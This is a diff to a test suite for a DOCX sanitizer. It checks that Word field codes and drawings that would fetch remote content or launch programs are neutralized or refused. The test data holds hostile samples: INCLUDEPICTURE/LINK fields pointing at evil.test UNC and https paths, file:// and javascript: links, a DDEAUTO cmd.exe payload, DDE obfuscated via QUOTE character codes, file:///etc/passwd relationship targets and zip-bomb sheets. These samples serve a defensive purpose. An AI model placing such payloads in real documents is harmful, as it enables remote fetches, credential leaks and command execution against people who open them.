@@ -78,6 +78,180 @@ describe('a DOCX', () => {
   });
 });
 
+/** A field in pieces: a text of its code goes into a run of its own, a field in it is another list. */
+type Code = (string | Code)[];
+const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
+const codeRun = (text: string) =>
+  `<w:r><w:instrText xml:space="preserve">${escaped(text)}</w:instrText></w:r>`;
+const field = (code: Code, shown = '<w:r><w:t>shown</w:t></w:r>'): string =>
+  [
+    mark('begin'),
+    ...code.map((part) => (typeof part === 'string' ? codeRun(part) : field(part, codeRun('1')))),
+    mark('separate'),
+    shown,
+    mark('end'),
+  ].join('');
+const simple = (code: string) =>
+  `<w:fldSimple w:instr="${escaped(code)}"><w:r><w:t>shown</w:t></w:r></w:fldSimple>`;
+const inParagraph = (body: string) => textXml(`<w:p>${body}</w:p>`);
+const tamed = async (body: string, part = 'word/document.xml') =>
+  String((await partsOf(await docxOf({ [part]: inParagraph(body) }))).get(part));
+
+const HARMLESS = [
+  'PAGE',
+  ' PAGE  \\* MERGEFORMAT ',
+  'NUMPAGES',
+  'TOC \\o "1-3" \\h \\z \\u',
+  'REF _Ref123 \\h',
+  'PAGEREF _Toc1 \\h',
+  'DATE \\@ "dd.MM.yyyy"',
+  '=2+2',
+  'HYPERLINK "https://good.test/?a=1&b=2"',
+  'HYPERLINK \\l "_Toc1"',
+  'HYPERLINK "mailto:a@good.test" \\o "write" \\t "_blank"',
+  'HYPERLINK https://good.test',
+];
+const FETCHING = [
+  'INCLUDEPICTURE "\\\\\\\\evil.test\\\\share\\\\x.png" \\d',
+  'INCLUDEPICTURE "https://evil.test/x.png" \\d \\* MERGEFORMATINET',
+  'includetext "\\\\\\\\evil.test\\\\x.docx"',
+  'IMPORT "https://evil.test/x"',
+  'LINK Excel.Sheet.12 "\\\\\\\\evil.test\\\\x.xlsx" \\a',
+  'DATABASE \\d "evil.test" \\s "select"',
+  'RD "\\\\\\\\evil.test\\\\x.docx"',
+  'MACROBUTTON evil',
+  'QUOTE "evil.test"',
+  '"INCLUDEPICTURE" "https://evil.test"',
+  'PAGEINCLUDEPICTURE "https://evil.test"',
+];
+const BAD_LINKS = [
+  'HYPERLINK "file:///etc/evil.test"',
+  'HYPERLINK "\\\\\\\\evil.test\\\\x"',
+  'HYPERLINK \\\\\\\\evil.test\\\\x',
+  'HYPERLINK “\\\\\\\\evil.test\\\\x”',
+  'HYPERLINK \\l "here" "file://evil.test"',
+  'HYPERLINK "https://good.test" "file://evil.test"',
+  'HYPERLINK "javascript:evil.test()"',
+];
+
+describe('a field of a DOCX', () => {
+  it.each(HARMLESS)('that says something of the document stays: %s', async (code) => {
+    for (const body of [field([code]), field([code.slice(0, 3), code.slice(3)]), simple(code)])
+      expect(await tamed(body)).toBe(inParagraph(body));
+  });
+
+  it.each(FETCHING)('that would fetch shows what it showed, and fetches nothing: %s', async (code) => {
+    const split = [...code.match(/[\s\S]{1,3}/g)!];
+    for (const part of ['word/document.xml', 'word/header1.xml', 'word/footnotes.xml'])
+      for (const body of [field([code]), field(split), simple(code)]) {
+        const text = await tamed(body, part);
+        expect(text).toContain('<w:t>shown</w:t>');
+        expect(text).toContain(' SHAPE ');
+        expect(text).not.toMatch(/evil|INCLUDE|LINK|DATABASE|MACRO|QUOTE/i);
+      }
+  });
+
+  it.each(BAD_LINKS)('that leads to a file leads nowhere: %s', async (code) => {
+    for (const body of [field([code]), simple(code)]) {
+      const text = await tamed(body);
+      expect(text).toMatch(/ HYPERLINK (?:"|&quot;)about:blank(?:"|&quot;) /);
+      expect(text).toContain('<w:t>shown</w:t>');
+      expect(text).not.toContain('evil');
+    }
+  });
+
+  it('in another is judged by itself, in its code and in what it shows', async () => {
+    const inner = 'INCLUDEPICTURE "https://evil.test/x.png"';
+    for (const body of [
+      field(['IF 1 = 1 "', [inner], '" "no"']),
+      field(['PAGE'], field([inner])),
+      field([inner], field([inner])),
+      field(['PAGE'], simple(inner)),
+      field([inner, ['PAGE']]),
+    ]) {
+      const text = await tamed(body);
+      expect(text).toContain(' SHAPE ');
+      expect(text).not.toMatch(/evil|INCLUDE/);
+    }
+    const harmless = field(['IF ', ['MERGEFIELD Name'], ' = "" "dear" "you"']);
+    expect(await tamed(harmless)).toBe(inParagraph(harmless));
+  });
+
+  it('whose link another field makes leads nowhere', async () => {
+    const text = await tamed(field(['HYPERLINK "https://', ['REF bookmark'], '"']));
+    expect(text).toContain(' HYPERLINK "about:blank" ');
+    expect(text).not.toContain('https');
+  });
+
+  it.each<[string, string]>([
+    ['asks another program', field(['DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"'])],
+    ['asks another program in pieces', field(['D', 'D', 'E cmd'])],
+    ['asks another program in short', simple('DDE cmd')],
+    ['asks another program inside another', field(['IF 1 = 1 ', ['DDE cmd']])],
+    ['is made of numbers', field([['QUOTE 68 68 69'], ' cmd'])],
+    ['is partly made of numbers', field(['IF 1 = 1 ', ['QUOTE 68 68 69']])],
+    ['has a name that another makes', field([['REF bookmark'], ' "https://evil.test"'])],
+    ['has a part of its name from another', field(['D', ['REF bookmark'], ' cmd'])],
+    ['has a name in characters of another kind', field(['PAGE']).replace('>PAGE<', '><![CDATA[DDE cmd]]><')],
+    [
+      'is of another vocabulary',
+      `<x:instrText xmlns:x="urn:x">PAGE </x:instrText>${field(['INCLUDEPICTURE "https://evil.test"'])}`,
+    ],
+    [
+      'begins and ends at once',
+      field(['PAGE']).replace(
+        'w:fldCharType="begin"',
+        'w:fldCharType="begin" xmlns:x="urn:x" x:fldCharType="end"',
+      ),
+    ],
+    ['hides an element in its code', field(['PAGE']).replace('>PAGE<', '>PAGE<w:t>x</w:t><')],
+  ])('that %s is refused', async (_, body) => {
+    await expect(tamed(body)).rejects.toThrow(/field|program|made/);
+  });
+
+  it('whose code depends on the reader fetches nothing', async () => {
+    const evil = codeRun('INCLUDEPICTURE "https://evil.test/x.png"');
+    const whole = (code: string) => `${mark('begin')}${code}${mark('separate')}${mark('end')}`;
+    const other = (name: string, code: string) => `<${name}>${code}</${name}>`;
+    const alternatives = (choice: string, fallback: string) =>
+      `<mc:AlternateContent xmlns:mc="urn:mc">${other('mc:Choice', choice)}${other('mc:Fallback', fallback)}</mc:AlternateContent>`;
+    for (const code of [
+      `${other('w:ins', codeRun('PAGE '))}${evil}`,
+      `${codeRun('PAGE ').replaceAll('instrText', 'delInstrText')}${evil}`,
+      `${other('w:del', codeRun('PAGE ').replaceAll('instrText', 'delInstrText'))}${evil}`,
+      alternatives(codeRun('PAGE '), evil),
+    ])
+      expect(await tamed(whole(code))).not.toMatch(/evil|INCLUDE/);
+    const loose = await tamed(`${evil}${field(['PAGE'])}`);
+    expect(loose).not.toContain('evil');
+    expect(loose).toContain('>PAGE<');
+    expect(await tamed(alternatives(field(['PAGE']), field(['PAGE'])))).toContain('>PAGE<');
+  });
+
+  it('is taken out without a change to anything beside it', async () => {
+    const rest = `<w:r><w:t xml:space="preserve"> &lt;b&gt; "oʻzbek" &amp; 😀\u00a0</w:t><w:tab/></w:r>`;
+    const text = await tamed(`${rest}${field(['LINK Excel.Sheet.12 x'])}${rest}`);
+    expect(text.split(rest)).toHaveLength(3);
+    expect(text).toMatch(/^<\?xml version="1.0" encoding="UTF-8" standalone="yes"\?>\n?<w:document /);
+  });
+});
+
+describe('a drawing of a DOCX', () => {
+  it('fetches no picture by its address, and leads to no file', async () => {
+    const body = [
+      '<v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" xmlns:r="urn:r" r:id="rId5" src="file://evil.test/a" o:href="https://evil.test/b"/>',
+      '<v:fill xmlns:v="urn:v" src="\\\\evil.test\\c"/>',
+      '<v:shape xmlns:v="urn:v" href="file://evil.test/d"/>',
+      '<v:shape xmlns:v="urn:v" href="https://good.test"/>',
+    ].join('');
+    const text = await tamed(body);
+    expect(text).not.toContain('evil');
+    expect(text).toContain('r:id="rId5"');
+    expect(text).toContain('href="https://good.test"');
+  });
+});
+
 describe('refused is a DOCX', () => {
   const refused = async (bytes: Buffer) => {
     await expect(cleanDocx(bytes)).rejects.toThrow();
@@ -120,18 +294,7 @@ describe('refused is a DOCX', () => {
     ['with broken XML', { 'word/document.xml': textXml('<w:p>') }],
     ['in UTF-16', { 'word/document.xml': Buffer.from(`\ufeff${textXml('')}`, 'utf16le') }],
     ['in an encoding that only some know', { 'word/document.xml': textXml('').replace('UTF-8', 'UTF-7') }],
-    [
-      'that asks another program',
-      {
-        'word/document.xml': textXml(
-          '<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r>',
-        ),
-      },
-    ],
-    [
-      'that asks another program in short',
-      { 'word/document.xml': textXml('<w:fldSimple w:instr="DDE cmd"/>') },
-    ],
+    ['that asks a database', { 'word/settings.xml': textXml('<w:connectString w:val="Data Source=x"/>') }],
     ['with a sheet that has macros', { 'word/embeddings/sheet.xlsx': 'no archive' }],
   ])('%s', async (_, more) => refused(await docxOf(more)));
 
@@ -170,6 +333,32 @@ describe('refused is a DOCX', () => {
     const startedAt = performance.now();
     await refused(lying);
     expect(performance.now() - startedAt).toBeLessThan(3000);
+  });
+
+  it('with sheets in it that unpack to more than all of it may', async () => {
+    const sheet = await zipOf({ 'xl/worksheets/sheet1.xml': Buffer.alloc(40 * 1024 * 1024, ' ') });
+    const sheets = (count: number) =>
+      docxOf(
+        Object.fromEntries(
+          Array.from({ length: count }, (_, index) => [`word/embeddings/s${index}.xlsx`, sheet]),
+        ),
+      );
+    expect((await partsOf(await sheets(2))).size).toBe(5);
+    const many = await sheets(8);
+    expect(many.length).toBeLessThan(1_000_000);
+    await expect(cleanDocx(many)).rejects.toThrow('too large');
+  });
+
+  it.each(['file:///etc/passwd', '\\\\evil.test\\x', '//evil.test/x', 'https://evil.test/x'])(
+    'whose part is said to be %s',
+    async (target) => refused(await relations('image', target, '')),
+  );
+
+  it('that says in its own way that something is elsewhere', async () => {
+    const text = String(
+      (await partsOf(await relations('image', 'file://evil.test/x', 'external'))).get(RELATIONS),
+    );
+    expect(text).not.toContain('evil');
   });
 
   it('with names that lead out of it, or twice the same', async () => {
